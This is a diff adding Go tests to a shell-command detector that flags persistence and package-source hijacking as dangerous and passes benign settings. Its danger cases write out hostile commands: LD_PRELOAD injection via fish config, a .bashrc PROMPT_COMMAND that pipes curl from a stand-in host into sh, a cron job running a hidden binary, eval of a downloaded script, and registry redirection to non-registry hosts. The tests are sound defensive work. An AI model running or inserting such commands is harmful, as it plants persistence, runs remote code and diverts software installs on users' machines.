@@ -186,3 +186,63 @@ func TestToolSettingsPayloads(t *testing.T) {
 		`pkgtool sources -a https://rubygems.org/`,
 	})
 }
+
+// Start-up lines that only set variables, written the fish way too, the
+// distro's history de-duplication, and a package manager's shell set-up
+// called by its full path are settings; a job's log in a hidden folder
+// is no hidden program.
+func TestStartupSettingsSpelledOtherWaysAndJobLogs(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`echo 'set -gx LD_PRELOAD /tmp/.l.so' >> ~/.config/fish/config.fish`, CategoryPersistence, "", LevelHigh},
+		{`echo 'export HISTCONTROL=ignorespace:ignoredups; export PROMPT_COMMAND="curl -s x.example.net|sh"' >> ~/.bashrc`, CategoryPersistence, "", LevelHigh},
+		{`echo 'eval "$(/tmp/brew shellenv)"' >> ~/.zprofile`, CategoryPersistence, "", LevelHigh},
+		{`(crontab -l; echo '*/5 * * * * /home/dev/.cache/.u/run >> /home/dev/log.txt 2>&1') | crontab -`, CategoryPersistence, "", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`echo 'set -gx EDITOR hx' > ~/.config/fish/conf.d/editor.fish`,
+		`echo 'export HISTCONTROL=ignoreboth' >> ~/.bashrc`,
+		`echo 'eval "$(/opt/homebrew/bin/brew shellenv)"' >> ~/.zprofile`,
+		`(crontab -l 2>/dev/null; echo '0 3 * * * /home/dev/bin/sync-notes.sh >> /home/dev/.local/state/sync.log 2>&1') | crontab -`,
+	})
+}
+
+// A package manager's global source, or a rewrite of every fetched URL,
+// pointed at a site that is no registry, artifact service or internal
+// name; the public registries, hosted artifact services and internal
+// mirrors are where such settings usually point.
+func TestPackageSourcesOnOtherSites(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`npm config set registry https://registry.npm-mirror.example.org/`, CategoryPersistence, "setting-command-payload", LevelHigh},
+		{`pip config set global.index-url https://pypi.example.net/simple`, CategoryPersistence, "setting-command-payload", LevelHigh},
+		{`gem sources -a https://gems.example.org/`, CategoryPersistence, "setting-command-payload", LevelHigh},
+		{`git config --global url.https://code.example.net/fork/.insteadOf https://github.com/`, CategoryPersistence, "setting-command-payload", LevelHigh},
+		{`printf 'registry=https://npm.example.com/\n' >> ~/.npmrc`, CategoryPersistence, "config-hook-payload", LevelHigh},
+		{`printf '[global]\nindex-url = https://pypi.example.org/simple\n' > ~/.config/pip/pip.conf`, CategoryPersistence, "config-hook-payload", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`npm config set registry https://registry.npmjs.org/`,
+		`npm config set @acme:registry https://npm.pkg.github.com`,
+		`pip config set global.index-url https://nexus.acme.internal/repository/pypi/simple`,
+		`yarn config set npmRegistryServer https://acme.jfrog.io/artifactory/api/npm/npm/`,
+		`git config --global url.git@github.com:.insteadOf https://github.com/`,
+		`printf 'registry=https://registry.npmjs.org/\n' >> ~/.npmrc`,
+		`npm config set registry https://npm.example.com/ --location=project`,
+	})
+}
+
+// The project's own program printing its completions is evaluated like
+// any CLI's; a program in a temporary folder, or eval of a download, is
+// not.
+func TestProjectProgramCompletions(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`eval "$(/tmp/x/tool completion bash)"`, "", "", LevelHigh},
+		{`eval "$(curl -s https://x.example.net/completion.sh)"`, "", "", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`eval "$(./bin/acme completion bash)"`,
+		`source <(./target/release/tool completion zsh)`,
+	})
+}
